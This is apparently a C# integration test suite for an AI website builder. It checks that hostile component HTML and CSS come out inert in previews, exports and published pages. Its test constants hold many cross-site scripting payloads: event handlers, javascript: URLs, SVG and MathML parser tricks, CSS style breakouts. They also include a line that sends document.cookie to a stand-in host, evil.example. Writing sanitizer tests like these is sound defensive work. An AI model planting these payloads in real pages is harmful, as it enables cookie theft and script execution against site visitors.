using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using AngleSharp.Html.Parser;

namespace AiWebBuilder.IntegrationTests.Campaigns;

/// <summary>Component code that wants to run: it may be kept, and comes out inert wherever it is shown.</summary>
public sealed class HostileCodeTests
{
    private const string Code = """
        <section><h2>{{7*7}} ${7*7} <%= 7*7 %></h2>
        <script>fetch('https://evil.example/' + document.cookie)</script>
        <img src=x onerror="alert(1)" alt="">
        <svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
        <iframe srcdoc="<script>alert(1)</script>"></iframe><object data="javascript:alert(1)"></object>
        <a href=" jav&#x09;ascript:alert(1)">link</a><form action="javascript:alert(1)"><button formaction="javascript:alert(1)">Go</button></form>
        <svg><a href="#a"><animate attributeName="href" values="#a;javascript:alert(1)"/><set attributeName="xlink:href" to="javascript:alert(1)"/></a><use href="data:image/svg+xml,x"/><foreignObject><embed src="javascript:alert(1)"></foreignObject></svg>
        <math href="javascript:alert(1)"><mi>x</mi></math><img srcset="javascript:alert(1) 2x" alt="">
        <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
        <math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math>
        <template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
        """;

    private const string Css =
        "p{color:red} </style><script>alert(1)</script> } body{background:url(https://evil.example/x)} @import 'https://evil.example/y';";

    [Test]
    public async Task It_is_inert_in_the_preview()
    {
        using var client = await App.Current.SignedInAsync();
        var campaign = await client.GeneratedAsync();
        await client.AddComponentAsync(campaign, code: Code, cssStyles: Css);
        await client.AddComponentAsync(
            campaign,
            componentType: "email_template",
            code: $"<!doctype html><html><head><style>{Css}</style></head><body onload=alert(1)>{Code}</body></html>"
        );
        var link = await Answers.JsonAsync(
            await client.PostAsync($"/v1/campaigns/{campaign}/preview-links", null),
            HttpStatusCode.Created
        );
        using var visitor = App.Current.CreateClient();
        foreach (var page in link["pages"]!.AsArray())
        {
            var html = await visitor.GetStringAsync(page.Text("url"));
            ShouldBeInert(html, tracking: false);
            if (page.Text("key") is "index" or "email-1")
            {
                html.ShouldContain("{{7*7}}");
            }
        }
    }

    [TestCase("html")]
    [TestCase("react")]
    [TestCase("wordpress")]
    public async Task It_is_inert_in_an_export(string format)
    {
        using var client = await App.Current.SignedInAsync();
        var campaign = (await client.CreateCampaignAsync("minimal")).Text("id");
        await client.AddComponentAsync(campaign, code: Code);

        using var answer = await client.GetAsync($"/v1/campaigns/{campaign}/exports/{format}");

        answer.StatusCode.ShouldBe(HttpStatusCode.OK);
        List<string> texts = [];
        await using var body = await answer.Content.ReadAsStreamAsync();
        if (format == "wordpress")
        {
            using var reader = new StreamReader(body);
            texts.Add(await reader.ReadToEndAsync());
        }
        else
        {
            await using var zip = new ZipArchive(body);
            foreach (var entry in zip.Entries)
            {
                using var reader = new StreamReader(await entry.OpenAsync());
                texts.Add(await reader.ReadToEndAsync());
            }
        }
        texts.ShouldContain(text => text.Contains("{{7*7}}"));
        texts.ShouldAllBe(text => !text.Contains("javascript:", StringComparison.OrdinalIgnoreCase));
        texts.ShouldAllBe(text => !text.Contains("<iframe") && !text.Contains("evil.example"));
    }

    [Test]
    public async Task It_is_inert_when_it_is_published()
    {
        using var client = await App.Current.SignedInAsync();
        var campaign = await client.GeneratedAsync();
        await client.AddComponentAsync(
            campaign,
            code: Code.Replace("<base", "<!-- base", StringComparison.Ordinal)
                + "--><button>Go</button>"
                + "</section>",
            cssStyles: "p{color:red} </style><script>alert(1)</script> }"
        );
        // Without figures of the brief and labels it would not pass; what is left of the code must not be able to run either way.
        using var answer = await client.PutAsync($"/v1/campaigns/{campaign}/publication", null);
        if (answer.StatusCode == HttpStatusCode.Conflict)
        {
            (await answer.Content.ReadFromJsonAsync<JsonNode>()).Text("code").ShouldBe("campaigns.preflight_failed");
        }
        await client.AddComponentAsync(
            campaign,
            name: "Clean enough to pass",
            code: "<section><h2>Words</h2><img src='data:,x' onerror='alert(1)' alt=''><script>alert(1)</script></section>"
        );
        foreach (var hostile in (await client.ComponentsAsync(campaign)).Where(one => one.Text("name") == "A section"))
        {
            await client.DeleteAsync($"/v1/components/{hostile.Text("id")}", "*");
        }
        var published = await Answers.JsonAsync(
            await client.PutAsync($"/v1/campaigns/{campaign}/publication", null),
            HttpStatusCode.OK
        );
        using var visitor = App.Current.CreateClient();
        var html = await visitor.GetStringAsync(published.Text("url"));
        html.ShouldContain("<h2>Words</h2>");
        ShouldBeInert(html, tracking: true);
    }

    private static void ShouldBeInert(string html, bool tracking)
    {
        var document = new HtmlParser().ParseDocument(html);
        document
            .QuerySelectorAll("script:not([type='application/ld+json'])")
            .Select(script => script.GetAttribute("src"))
            .ShouldBe(tracking ? ["/t.js"] : []);
        document.QuerySelectorAll("iframe, object, embed, base, template, meta[http-equiv=refresh]").ShouldBeEmpty();
        foreach (var attribute in document.All.SelectMany(element => element.Attributes))
        {
            attribute.LocalName.ShouldNotStartWith("on", Case.Insensitive);
            attribute.LocalName.ShouldNotBe("srcdoc");
            string.Concat(attribute.Value.Where(letter => letter > ' '))
                .ShouldNotStartWith("javascript:", Case.Insensitive);
        }
    }
}
